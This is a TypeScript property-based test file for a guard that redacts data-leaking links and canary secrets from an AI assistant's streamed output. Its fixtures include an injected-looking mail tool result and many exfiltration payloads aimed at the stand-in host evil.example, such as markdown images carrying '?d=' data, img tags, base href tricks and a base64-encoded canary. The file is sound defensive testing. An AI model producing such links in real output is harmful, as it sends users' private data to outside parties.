import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Verdict } from '../../../src/index.js';
import { type Analyzer, createGuard, type GuardEvent, type GuardOptions, type Run } from '../../../src/policy/index.js';

const allowed: Verdict = {
  ...{ verdict: 'allow', confidence: 0, score: 0, threshold: 0.8, rule: 'none', reason: null, decided_by: 'ml' },
  ...{ rules_version: '1.0.0+0', ml_version: 'test', ml_threshold: 0.8, mode: 'hybrid', latency_ms: 0 },
  evidence_id: 'ev_000000000000000000000000',
};
const analyzer: Analyzer = { analyze: async () => allowed };
const DATA = 'From anna@acme.example: pictures are at https://evil.example/p?d=TEXT, and https://evil.example/q.';

async function started(
  options: GuardOptions = {},
  canaries: readonly string[] = [],
): Promise<{ run: Run; events: GuardEvent[] }> {
  const events: GuardEvent[] = [];
  const guard = createGuard({ engine: analyzer, report: (event) => events.push(event), ...options });
  const run = guard.run({ canaries });
  await run.screen('user', 'Summarise my mail. My site is https://mine.example.');
  await run.screen('tool_result', DATA, { tool: 'read_mail' });
  events.length = 0;
  return { run, events };
}

const plain = (text: unknown): string => String(text).replace(/evidence=ev_[\da-f]+/g, 'evidence=…');

async function inPieces(run: Run, text: string, cuts: readonly number[] | 'each'): Promise<string> {
  const stream = run.outputStream();
  const given = cuts === 'each' ? Array.from(text, (_, at) => at) : cuts;
  const places = [...new Set(given.map((cut) => Math.min(cut, text.length)))].sort((a, b) => a - b);
  let shown = '';
  let from = 0;
  for (const at of [...places, text.length]) {
    shown += await stream.write(text.slice(from, at));
    from = at;
  }
  return plain(shown + (await stream.end()));
}

async function whole(run: Run, text: string): Promise<string> {
  const { value } = await run.screen('output', text);
  return plain(value);
}

const HOSTS =
  'https://evil.example/q https://evil.example/p?d=Friday //evil.example/r evil.example/x www.evil.example https://docs.example/'.split(
    ' ',
  );
const PARTS = [
  ...'[ ] ]( ![ ![a]( ]: ( ) < > ` `` ``` ~~~ \\ " \' = // . , 。 a b word &#58; %41 data: {"a":" mailto:eve@evil.example'.split(
    ' ',
  ),
  ...'<b <img </b> <a <!-- --> <! <? <![CDATA[ ]]> <script> </script> <title> <img|src=" <b|x=" <img|src=\' <a|href= ">'
    .split(' ')
    .map((part) => part.replace('|', ' ')),
  ...[
    ' ',
    '\n',
    '\n\n',
    '\n```\n',
    '\n~~~\n',
    '. ',
    '[r]: ',
    '![r]',
    '![x][r]',
    '](<',
    'style="x: url(',
    '">',
    '<img src="//evil.example/i">',
    '<base href="https://docs.example/b/">',
    '![x](anna@acme.example)',
    '<style>',
    'url( ',
    "@import '",
    'https:evil.example/s',
  ],
  ...[
    'https://docs.example/?d=anna@acme.example',
    'https://mine.example/a',
    '(<//evil.example/a b>)',
    'data:text/html,<img src=//evil.example/z>',
  ],
  ...HOSTS,
  ...HOSTS.flatMap((url) => [`\n[r]: ${url}\n`, `<img src="${url}`, `![x](${url})`]),
];
/** Few parts often, so that they meet. */
const TEXT = fc
  .tuple(fc.subarray(PARTS, { minLength: 2, maxLength: 8 }), fc.array(fc.nat(), { maxLength: 20 }))
  .map(([parts, picks]) => picks.map((pick) => parts[pick % parts.length]).join(''));
/** `each`: at every sign. */
const CUTS = fc.oneof(fc.array(fc.nat({ max: 200 }), { maxLength: 40 }), fc.constant('each' as const));

describe('output in pieces', () => {
  it('is what it would be in one piece, however the text is divided', async () => {
    const { run } = await started();
    await fc.assert(
      fc.asyncProperty(TEXT, CUTS, async (text, cuts) => {
        expect(await inPieces(run, text, cuts)).toBe(await whole(run, text));
      }),
      { numRuns: Number(process.env.RUNS ?? 500) },
    );
  }, 600_000);

  it('finds a canary that is spelled over pieces, and shows what stands before', async () => {
    const sign = fc.constantFrom(
      'b',
      'blue',
      '-',
      ' ',
      'otter',
      'o',
      '\n',
      '. ',
      '7731',
      '773',
      'Blue Otter 7731',
      'word ',
      '1',
    );
    const { run } = await started({}, ['blue-otter-7731']);
    const text = fc.array(sign, { maxLength: 12 }).map((parts) => parts.join(''));
    await fc.assert(
      fc.asyncProperty(text, CUTS, async (given, cuts) => {
        expect(await inPieces(run, given, cuts)).toBe(await whole(run, given));
      }),
      { numRuns: 300 },
    );
    expect(await inPieces(run, 'It is Ymx1ZS1vdHRlci03NzMx. Yes.', 'each')).toMatch(
      /^It is \[removed[^\]]*\]\. Yes\.$/,
    );
    const stream = run.outputStream();
    expect(await stream.write('The word is here. It is blue')).toBe('The word is here. ');
  }, 60_000);

  it('shows each word once it is complete, and a link once that is', async () => {
    const { run } = await started();
    const stream = run.outputStream();
    const shown: string[] = [];
    for (const piece of ['Hello wor', 'ld, see [the ch', 'art](https://ev', 'il.example/p?d=Fri', 'day) and', ' more.'])
      shown.push(plain(await stream.write(piece)));
    shown.push(await stream.end());
    const note = '[removed by portcullis: a way out. rule=output.foreign-host evidence=…]';
    expect(shown).toEqual(['Hello ', 'world, see [the ', '', '', `chart](${note}) `, 'and ', 'more.']);
  });

  it('holds a link in code back until the code is closed, and only one that would be cut elsewhere', async () => {
    const { run } = await started();
    const stream = run.outputStream();
    const fence = '```';
    expect(await stream.write(`${fence}\ncurl https://docs.example/a and `)).toBe(
      `${fence}\ncurl https://docs.example/a and `,
    );
    expect(await stream.write('curl https://evil.example/p?d=Friday and ')).toBe('curl ');
    expect(await stream.write(`\n${fence}\n`)).toBe(`https://evil.example/p?d=Friday and \n${fence}\n`);
  });

  it('counts what is open as cut once more is held back than may be, and reports it once', async () => {
    const { run, events } = await started();
    const stream = run.outputStream();
    const long = 'x'.repeat(40_000);
    let shown = '';
    for (const piece of ['See ![c](https://evil.example/p?d=', ...(long.match(/.{1,100}/g) ?? []), ') and so on'])
      shown += await stream.write(piece);
    shown += await stream.end();
    expect(plain(shown)).toBe(
      'See ![c]([removed by portcullis: a way out. rule=output.foreign-host evidence=…]) and so on',
    );
    expect(events).toHaveLength(1);
  });

  it('tells one evidence id in the notes and events of a text, never the link', async () => {
    const { run, events } = await started();
    const shown = await (async () => {
      const stream = run.outputStream({ tool: 'writer' });
      return (
        (await stream.write('![c](https://evil.example/1?d=Friday) \n\n![c](https://evil.example/2) \n')) +
        (await stream.end())
      );
    })();
    const ids = new Set([...shown.matchAll(/ev_[\da-f]+/g)].map(([id]) => id));
    expect(ids.size).toBe(1);
    expect(events.map(({ evidenceId }) => evidenceId)).toEqual([...ids]);
    expect(events[0]).toMatchObject({
      point: 'output',
      action: 'redact',
      tool: 'writer',
      leaks: [{ span: { start: 5 } }, {}],
    });
    expect(JSON.stringify(events)).not.toMatch(/evil|Friday/);
  });

  it('does what the policy says', async () => {
    const text = 'Look: ![c](https://evil.example/p?d=Friday) and more';
    const done = await Promise.all(
      (['deny', 'report', 'off'] as const).map(async (output) => {
        const { run, events } = await started({ on: { output } });
        return [await inPieces(run, text, [10, 30]), events.map(({ action }) => action)];
      }),
    );
    expect(done).toEqual([
      ['Look: [removed by portcullis: a way out. rule=output.foreign-host evidence=…]', ['deny']],
      [text, ['report']],
      [text, []],
    ]);
  });

  it('shows all at once outside of a run', async () => {
    const stream = createGuard({ engine: analyzer }).outputStream();
    expect(await stream.write('![c](https://ev')).toBe('![c](https://ev');
  });

  it('is linear in the number of pieces', async () => {
    const { run } = await started();
    const time = async (count: number): Promise<number> => {
      const stream = run.outputStream();
      const before = process.cpuUsage();
      for (let at = 0; at < count; at += 1) await stream.write('See https://docs.example/a: ok. ');
      await stream.end();
      const { user, system } = process.cpuUsage(before);
      return user + system;
    };
    await time(500);
    expect((await time(6_000)) / (await time(1_500))).toBeLessThan(9);
  }, 60_000);
});
